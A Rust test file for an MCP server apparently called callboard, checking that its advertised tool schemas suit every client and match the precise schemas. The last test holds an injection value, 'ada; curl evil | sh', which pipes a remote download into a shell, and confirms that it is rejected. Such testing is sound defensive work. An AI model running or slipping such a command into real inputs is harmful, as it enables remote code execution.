//! `tools/list` says what every client can read, and no less than the operations say.

use callboard::mcp::tool_list;
use callboard::ops::{self, Toolset};
use serde_json::{Value, json};

use crate::harness::{Board, Client};

/// What vendors' models are shown: the name, the description and the schema of each tool.
fn listed(toolset: Toolset) -> Vec<(String, String, Value)> {
    let tools = tool_list(toolset, true).into_iter();
    tools
        .map(|tool| {
            let description = tool.description.expect("it is described").into_owned();
            (tool.name.into_owned(), description, Value::Object((*tool.input_schema).clone()))
        })
        .collect()
}

/// Keywords that at least one client refuses, or that costs it the tool.
const REFUSED: [&str; 17] = [
    "$schema",
    "$ref",
    "$defs",
    "additionalProperties",
    "allOf",
    "anyOf",
    "const",
    "default",
    "deprecated",
    "format",
    "if",
    "not",
    "oneOf",
    "patternProperties",
    "prefixItems",
    "title",
    "uniqueItems",
];
const TYPES: [&str; 6] = ["object", "array", "string", "integer", "number", "boolean"];
/// Deepest nesting of schemas; some vendors refuse more.
const DEEPEST: usize = 5;
const LONGEST_NAME: usize = 64;
const LONGEST_DESCRIPTION: usize = 400;

/// Everything in a schema that some client cannot read, each with its place.
fn faults(schema: &Value, place: &str, depth: usize) -> Vec<String> {
    let mut found = Vec::new();
    let mut check = |is_good: bool, fault: String| {
        if !is_good {
            found.push(format!("{place}: {fault}"));
        }
    };
    let Some(fields) = schema.as_object() else {
        return vec![format!("{place}: {schema} is not an object")];
    };
    for keyword in REFUSED {
        check(!fields.contains_key(keyword), format!("has {keyword}"));
    }
    let kind = fields.get("type").and_then(Value::as_str).unwrap_or_default();
    check(TYPES.contains(&kind), format!("has the type {:?}", fields.get("type")));
    check(depth <= DEEPEST, format!("nested {depth} deep"));
    if let Some(values) = fields.get("enum") {
        let values = values.as_array().expect("a list");
        check(
            kind == "string" && !values.is_empty() && values.iter().all(Value::is_string),
            "has a mixed enum".to_owned(),
        );
    }
    if let Some(description) = fields.get("description") {
        let text = description.as_str().unwrap_or_default();
        check(
            !text.is_empty() && text.len() <= LONGEST_DESCRIPTION,
            format!("is described with {text:?}"),
        );
        check(!text.contains('\n'), format!("has lines: {text:?}"));
    }
    let properties = fields.get("properties").and_then(Value::as_object);
    check(
        properties.is_some() == (kind == "object"),
        "has properties if and only if it is an object".to_owned(),
    );
    // Strict conversion refuses an object with any members, or leaves it none.
    check(
        depth == 0 || properties.is_none_or(|properties| !properties.is_empty()),
        "is an object with any members".to_owned(),
    );
    check(
        fields.contains_key("items") == (kind == "array"),
        "has items if and only if it is a list".to_owned(),
    );
    for name in fields.get("required").and_then(Value::as_array).into_iter().flatten() {
        let known = properties.is_some_and(|properties| {
            name.as_str().is_some_and(|name| properties.contains_key(name))
        });
        check(known, format!("requires {name}, which it has not"));
    }
    let names = properties.into_iter().flat_map(|properties| properties.keys());
    names.for_each(|name| check(name.len() <= LONGEST_NAME, format!("has the long name {name}")));
    for (name, property) in properties.into_iter().flatten() {
        found.extend(faults(property, &format!("{place}.{name}"), depth + 1));
    }
    found.extend(
        fields
            .get("items")
            .into_iter()
            .flat_map(|items| faults(items, &format!("{place}[]"), depth + 1)),
    );
    found
}

#[test]
fn every_schema_is_readable_for_every_client() {
    let tools = listed(Toolset::Full);
    assert_eq!(tools.len(), ops::all().len());
    for (name, description, schema) in &tools {
        let is_plain = |c: char| c.is_ascii_lowercase() || c == '_';
        assert!(name.len() <= LONGEST_NAME && name.chars().all(is_plain), "{name}");
        assert!(
            !description.is_empty() && description.len() <= LONGEST_DESCRIPTION,
            "{name}: {description}"
        );
        assert_eq!(schema["type"], "object", "{name}");
        assert_eq!(faults(schema, name, 0), Vec::<String>::new());
    }
}

/// The precise schemas are not for every client: the walk finds that out, so it would find it in
/// `tools/list`, too.
#[test]
fn what_clients_cannot_read_is_found_in_the_precise_schemas() {
    let precise =
        ops::all().iter().map(|entry| (entry.name, Value::Object(entry.input_schema(true))));
    let found: Vec<_> = precise.flat_map(|(name, schema)| faults(&schema, name, 0)).collect();
    for (keyword, place) in [
        ("additionalProperties", "get_status"),
        ("uniqueItems", "create_run.demands.tags"),
        ("oneOf", "create_run.execution_mode"),
        ("the type None", "complete_task.data"),
        ("default", "create_task.priority"),
        ("properties if and only if", "update_task.metadata"),
    ] {
        let fault = found
            .iter()
            .find(|fault| fault.starts_with(&format!("{place}: ")) && fault.contains(keyword));
        assert!(fault.is_some(), "{place} has no {keyword}: {found:#?}");
    }
}

/// The arguments of the precise schema and those shown are the same, with the same types and
/// values.
fn assert_tells_the_same(shown: &Value, precise: &Value, place: &str) {
    let current = |fields: &Value| -> Vec<String> {
        let fields = fields["properties"].as_object().into_iter().flatten();
        fields
            .filter(|(_, field)| field["deprecated"] != true)
            .map(|(name, _)| name.clone())
            .collect()
    };
    assert_eq!(current(shown), current(precise), "{place}");
    assert_eq!(shown.get("required"), precise.get("required"), "{place}");
    // An object with any members is shown as its JSON.
    let is_argument = place.contains(['.', '[']);
    let is_free = is_argument && precise["type"] == "object" && !precise["properties"].is_object();
    if let Some(kind) = precise.get("type") {
        let kind = if is_free { &json!("string") } else { kind };
        assert_eq!(&shown["type"], kind, "{place}");
    }
    if let Some(values) = precise.get("enum") {
        assert_eq!(&shown["enum"], values, "{place}");
    }
    let description = precise["description"].as_str().unwrap_or_default().replace('\n', " ");
    let told = shown["description"].as_str().unwrap_or_default();
    assert!(
        told.starts_with(description.trim_end_matches('.')),
        "{place}: {told:?} of {description:?}"
    );
    if let Some(default) = precise["default"].as_str().map(str::to_owned).or_else(|| {
        precise["default"].as_u64().filter(|number| *number > 0).map(|number| number.to_string())
    }) {
        assert!(told.contains(&default), "{place}: {told:?} without the default {default}");
    }
    for name in current(precise) {
        let place = format!("{place}.{name}");
        assert_tells_the_same(&shown["properties"][&name], &precise["properties"][&name], &place);
    }
    if precise["type"] == "array" {
        assert_tells_the_same(&shown["items"], &precise["items"], &format!("{place}[]"));
    }
}

#[test]
fn nothing_but_keywords_is_lost_from_the_precise_schemas() {
    for (name, description, schema) in listed(Toolset::Full) {
        let entry = ops::find(&name).expect("an operation");
        assert_eq!(description, entry.description);
        assert_tells_the_same(&schema, &Value::Object(entry.input_schema(true)), &name);
    }
    let tools = listed(Toolset::Full);
    let of = |tool: &str, field: &str| {
        let (_, _, schema) = tools.iter().find(|(name, ..)| name == tool).expect("a tool");
        schema["properties"][field].clone()
    };
    let mode = of("create_run", "execution_mode");
    assert_eq!(mode["enum"], json!(["sync", "async_poll", "async_callback"]));
    assert!(
        mode["description"]
            .as_str()
            .is_some_and(|text| text.contains("async_callback: The parent session")),
        "{mode}"
    );
    assert_eq!(of("send_message", "kind")["enum"], json!(["inform", "reply", "request"]));
    let data = of("complete_task", "data");
    assert_eq!((&data["type"], &data["properties"]), (&json!("string"), &Value::Null));
    assert!(
        data["description"].as_str().is_some_and(|text| text.contains("JSON object")),
        "{data}"
    );
}

#[test]
fn lists_keep_within_their_budgets() {
    for (toolset, name, budget) in
        [(Toolset::Worker, "worker", 5_000), (Toolset::Core, "core", 14_000)]
    {
        let listed = tool_list(toolset, true);
        let bytes = serde_json::to_string(&listed).expect("JSON").len();
        println!("tools/list of {name}: {bytes} bytes of {budget}, {} tools", listed.len());
        assert!(bytes <= budget, "{name}: {bytes} bytes");
    }
}

#[test]
fn what_is_no_id_gets_into_no_command() {
    let board = Board::new();
    board.cli_ok("create_task", json!({"description": "d"}));
    let mut client = Client::start(board.command().args(["mcp", "--toolset", "worker"]));
    let mut refused = |agent: &str| {
        let call = json!({"workflow_id": "none", "number": 3, "agent_id": agent});
        client.call("get_checkpoint", call).text
    };
    let (named, injected) = (refused("ada"), refused("ada; curl evil | sh"));
    assert!(named.contains("--agent ada "), "{named}");
    assert!(injected.contains("no workflow") && !injected.contains("curl"), "{injected}");
}
